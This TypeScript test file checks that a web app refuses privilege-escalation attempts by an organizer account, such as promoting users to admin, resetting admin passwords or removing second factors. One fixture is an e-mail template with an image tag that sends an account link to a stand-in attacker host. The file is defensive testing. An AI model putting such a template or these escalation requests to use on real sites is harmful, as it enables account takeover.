/**
 * Every change by which an organizer could gain administrator rights, with endpoints that organizers may call;
 * the access matrix has those of administrators.
 */
import { beforeEach, expect, test } from 'vitest'
import { aPerson, aSessionCookie, aUser } from '#tests/kit/builders.ts'
import { aSite } from '#tests/kit/site.ts'
import { aTemplateInput } from '#tests/kit/templates.ts'
import { passwords } from '../features/accounts/tables.ts'
import { people } from '../features/people/tables.ts'

const { db, api } = await aSite()

interface Cast {
  readonly own: number
  readonly admin: number
  readonly colleague: number
  readonly attendee: number
}
let cast: Cast
let headers: { Cookie: string }

beforeEach(async () => {
  const own = await aPerson(db, { role: 'organizer' })
  cast = {
    own: own.id,
    admin: (await aUser(db, { role: 'admin' })).id,
    colleague: (await aUser(db, { role: 'organizer' })).id,
    attendee: (await aUser(db, { role: 'attendee' })).id,
  }
  headers = { Cookie: await aSessionCookie(db, own.id) }
})

type Attempt = readonly [what: string, path: string, body: (cast: Cast) => unknown, status?: number]

const newPassword = 'Chosen-by-someone-else-9'
const newEmail = 'mailbox-of-the-organizer@example.ph'

const attempts: readonly Attempt[] = [
  ['makes themselves admin', '/users/update-details', ({ own }) => ({ userId: own, role: 'admin' })],
  [
    'makes another user admin',
    '/users/update-details',
    ({ attendee }) => ({ userId: attendee, role: 'admin' }),
  ],
  ['demotes an admin', '/users/update-details', ({ admin }) => ({ userId: admin, role: 'staff' })],
  [
    'creates an admin',
    '/users',
    () => ({ displayName: 'New', email: newEmail, password: newPassword, role: 'admin' }),
  ],
  [
    'sets the password of an admin',
    '/users/change-password',
    ({ admin }) => ({ userId: admin, newPassword }),
  ],
  [
    'sets the password of an organizer',
    '/users/change-password',
    ({ colleague }) => ({ userId: colleague, newPassword }),
  ],
  ['changes the e-mail of an admin', '/users/update-email', ({ admin }) => ({ userId: admin, newEmail })],
  [
    'changes the e-mail of an organizer',
    '/users/update-email',
    ({ colleague }) => ({ userId: colleague, newEmail }),
  ],
  [
    'removes the second factor of an admin',
    '/users/remove-second-factors',
    ({ admin }) => ({ userId: admin }),
  ],
  [
    'removes the second factor of an organizer',
    '/users/remove-second-factors',
    ({ colleague }) => ({ userId: colleague }),
  ],
  ['deletes an admin', '/users/delete', ({ admin }) => ({ userId: admin })],
  [
    'creates an account link template',
    '/email/templates/create',
    () => aTemplateInput({ templateType: 'account_link', htmlTemplate: '<a href="{{ accountLink }}">x</a>' }),
  ],
  [
    'adds an account link to another template',
    '/email/templates/create',
    () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' }),
    400,
  ],
]

test.for(attempts)(
  'Privilege escalation: an organizer who %s is refused, and nothing changes',
  async ([, path, body, refusal = 403]) => {
    const state = () =>
      Promise.all([
        db.select({ id: people.id, email: people.email, role: people.role }).from(people),
        db.select().from(passwords),
      ])
    const before = await state()
    const { status } = await api.call(path, { body: body(cast), headers })
    expect(status).toBe(refusal)
    expect(await state()).toEqual(before)
  },
)

test('Privilege escalation: an organizer cannot read account link e-mails', async () => {
  await api.call('/users/send-password-link', { body: { userId: cast.attendee }, headers })
  const { body } = await api.call<{ messages: { id: number }[] }>('/email/outbox', { headers })
  const texts = await Promise.all(
    body.messages.map(async ({ id }) =>
      (await api.send(`/email/outbox/message?id=${id}`, { headers })).text(),
    ),
  )
  expect(texts.length).toBeGreaterThan(0)
  expect([JSON.stringify(body), ...texts].join('')).not.toContain('/account-link')
})
